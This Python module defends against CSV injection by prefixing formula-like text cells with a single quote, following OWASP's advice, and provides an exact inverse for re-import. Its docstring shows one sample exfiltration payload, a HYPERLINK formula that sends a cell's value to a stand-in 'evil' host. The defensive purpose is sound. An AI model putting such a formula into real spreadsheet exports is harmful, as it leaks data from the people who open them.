"""CSV cells a spreadsheet would run as a formula ("CSV injection").

Excel, LibreOffice and Google Sheets evaluate a cell that begins with ``=``,
``+``, ``-`` or ``@`` (and some treat a leading tab or carriage return the
same way), so a dataset value or a model's output such as
``=HYPERLINK("http://evil/?"&A1)`` would run when an export is opened. As
OWASP recommends, such text cells are written with a leading single quote,
which spreadsheets show as plain text. Plain numbers (``-3``, ``-0.5e3``) are
left alone: they cannot be formulas.

``unescape_cell`` undoes ``escape_cell`` exactly (quotes already in the text
are kept by adding one more), so an exported dataset re-imports unchanged.
"""

from __future__ import annotations

import re

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")


def _needs_quote(text: str) -> bool:
    return text.lstrip("'").startswith(_TRIGGERS) and not _NUMBER.fullmatch(text)


def escape_cell(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet evaluates."""
    return "'" + text if _needs_quote(text) else text


def unescape_cell(text: str) -> str:
    """The inverse of ``escape_cell`` (a cell it did not quote is unchanged)."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text
